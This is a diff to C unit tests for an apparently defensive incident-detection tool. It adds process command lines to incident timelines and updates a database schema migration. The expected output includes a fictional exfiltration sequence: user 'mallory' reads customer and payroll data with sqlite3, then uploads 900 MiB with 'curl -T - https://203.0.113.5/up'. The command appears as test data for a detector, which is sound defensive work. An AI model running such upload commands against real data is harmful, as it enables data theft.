@@ -245,9 +245,9 @@ static void the_timeline_lists_each_record_once(void **state)
 	assert_ptr_equal(strstr(c.out, "Incident " MALLORY ": mallory (uid 1002)\n"
 				"Score 87 of 100 (high), state new, 7 findings from 2026-11-20 00:00:00 to 2026-11-20 23:59:59\n"), c.out);
 	assert_non_null(strstr(c.out, "  [high] read_then_egress, 50 points, 2026-11-20 23:25:00 to 2026-11-20 23:25:00, dataset customers, new (000000005ce4a210-finding-10)\n"));
-	assert_non_null(strstr(c.out, "  2026-11-20 23:10:00  /usr/bin/sqlite3 (pid 3301, uid mallory) read 396 MiB from 99 files of customers: "));
-	assert_non_null(strstr(c.out, "  2026-11-20 23:16:00  /usr/bin/sqlite3 (pid 3301, uid mallory) read 2.00 MiB of payroll: /data/payroll/2026.csv  [first_access, off_hours]\n"));
-	assert_non_null(strstr(c.out, "  2026-11-20 23:25:00  /usr/bin/curl (pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp  [read_then_egress]\n"));
+	assert_non_null(strstr(c.out, "  2026-11-20 23:10:00  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory) read 396 MiB from 99 files of customers: "));
+	assert_non_null(strstr(c.out, "  2026-11-20 23:16:00  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory) read 2.00 MiB of payroll: /data/payroll/2026.csv  [first_access, off_hours]\n"));
+	assert_non_null(strstr(c.out, "  2026-11-20 23:25:00  curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp  [read_then_egress]\n"));
 	/* Cited by two findings, shown once. */
 	assert_int_equal(count_of(c.out, "/data/payroll/2026.csv"), 1);
 	assert_int_equal(count_of(c.out, "203.0.113.5:443/tcp  ["), 1);
@@ -277,7 +277,8 @@ static void the_evidence_outlives_the_raw_records(void **state)
 	sql(path, "DELETE FROM events; DELETE FROM procs;");
 	cli_run(&c, cmd_incident, "incident", "show", MALLORY, "--database", path, END);
 	assert_int_equal(c.status, 0);
-	assert_non_null(strstr(c.out, "/usr/bin/curl (pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp"));
+	/* The command line too: the evidence keeps its copy. */
+	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory) sent 900 MiB -> 203.0.113.5:443/tcp"));
 	assert_non_null(strstr(c.out, "  102 records of evidence.\n"));
 	cli_free(&c);
 	test_db_remove(path);
@@ -545,13 +546,13 @@ static void hostile_names_cannot_forge_the_incident_view(void **state)
 	hostile_assert_in(c.out, HOSTILE_NAME_SHOWN " (uid 1004)");
 	cli_free(&c);
 	hostile_run(&c, cmd_incident, "show", "incident", "show", id, "--database", hostile);
-	hostile_assert_in(c.out, HOSTILE_EXE_SHOWN " (pid 3500, uid " HOSTILE_NAME_SHOWN ")");
+	hostile_assert_in(c.out, HOSTILE_CMDLINE_SHOWN " (" HOSTILE_EXE_SHOWN ", pid 3500, uid " HOSTILE_NAME_SHOWN ")");
 	hostile_assert_in(c.out, HOSTILE_DEST_SHOWN);
 	cli_free(&c);
 	free((char *)id);
 }
 
-/* Schema 3 to 4: findings get the instance their ids name. */
+/* Schema 3 to 5: findings get the instance their ids name. */
 static void a_schema_3_database_gets_instance_ids(void **state)
 {
 	char *path = copy_of_db("incident-v3"), err[512];
@@ -562,6 +563,9 @@ static void a_schema_3_database_gets_instance_ids(void **state)
 	(void)state;
 	sql(path, "ALTER TABLE findings DROP COLUMN instance_id;"
 	    "DROP TABLE triage; DROP TABLE notes; DROP TABLE suppressions;"
+	    "ALTER TABLE procs DROP COLUMN cmdline;"
+	    "ALTER TABLE events DROP COLUMN cmdline;"
+	    "ALTER TABLE evidence DROP COLUMN cmdline;"
 	    "UPDATE meta SET value = 3 WHERE key = 'schema_version'");
 	if (store_open(&s, path, err, sizeof(err)) < 0)
 		fail_msg("%s", err);
@@ -569,9 +573,14 @@ static void a_schema_3_database_gets_instance_ids(void **state)
 	assert_int_equal(sqlite3_open(path, &d), SQLITE_OK);
 	assert_int_equal(sqlite3_prepare_v2(d, "SELECT (SELECT value FROM meta WHERE"
 		" key = 'schema_version'), COUNT(*), SUM(instance_id = 1558487568),"
-		" (SELECT COUNT(*) FROM triage) FROM findings", -1, &st, NULL), SQLITE_OK);
+		" (SELECT COUNT(*) FROM triage),"
+		/* Schema 5: command lines, NULL for what came before. */
+		" (SELECT COUNT(cmdline) FROM events) + (SELECT COUNT(cmdline)"
+		" FROM evidence) + (SELECT COUNT(cmdline) FROM procs)"
+		" FROM findings", -1, &st, NULL), SQLITE_OK);
 	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
-	assert_int_equal(sqlite3_column_int(st, 0), 4);
+	assert_int_equal(sqlite3_column_int(st, 0), DB_SCHEMA_VERSION);
+	assert_int_equal(sqlite3_column_int(st, 4), 0);
 	assert_true(sqlite3_column_int(st, 1) > 10);
 	assert_int_equal(sqlite3_column_int(st, 2), sqlite3_column_int(st, 1));
 	assert_int_equal(sqlite3_column_int(st, 3), 0);
